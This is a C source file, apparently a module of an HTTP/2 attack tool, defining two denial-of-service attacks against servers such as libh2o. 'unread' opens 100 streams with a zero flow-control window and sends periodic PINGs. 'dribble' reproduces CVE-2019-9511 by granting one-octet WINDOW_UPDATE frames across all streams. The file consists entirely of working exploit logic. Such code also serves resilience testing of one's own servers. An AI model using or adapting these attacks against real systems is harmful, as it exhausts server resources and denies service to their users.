/* SPDX-License-Identifier: Apache-2.0 */
/* HTTP/2 requests whose answers have no window to go into, or one for an octet now and then. */
#include "attack.h"

#define STREAMS 100 /* what libh2o allows at a time */

static void put_requests(client *c)
{
    for (int i = 0; i < STREAMS; i++) {
        if (words.body == NULL) {
            put_request(c, "GET", END_HEADERS | END_STREAM);
        } else {
            const uint32_t stream = put_post(c, "application/json", words.body_size, END_HEADERS);
            put_frame(c, DATA, END_STREAM, stream, words.body, words.body_size);
        }
    }
}

static bool turn_unread(client *c)
{
    if (c->step == 0) {
        put_requests(c);
    } else {
        put_frame(c, PING, 0, 0, "12345678", 8);
    }
    return true;
}

/* CVE-2019-9511: a frame for each octet. */
static bool turn_dribble(client *c)
{
    if (c->step == 0) {
        put_requests(c);
    } else {
        for (uint32_t i = 0; i < STREAMS; i++) {
            put_number_frame(c, WINDOW_UPDATE, 2 * i + 1, 1);
        }
    }
    return true;
}

const attack unread = {
    .name = "unread",
    .help = "100 requests for each connection, a window of 0, and PINGs",
    .carriage = CARRY_H2,
    .connections = 1,
    .reconnects = true,
    .no_window = true,
    .turn_ms = 500,
    .turn = turn_unread,
};

const attack dribble = {
    .name = "dribble",
    .help = "100 requests for each connection, and a window of one octet now and then",
    .carriage = CARRY_H2,
    .connections = 1,
    .reconnects = true,
    .no_window = true,
    .turn_ms = 50,
    .turn = turn_dribble,
};
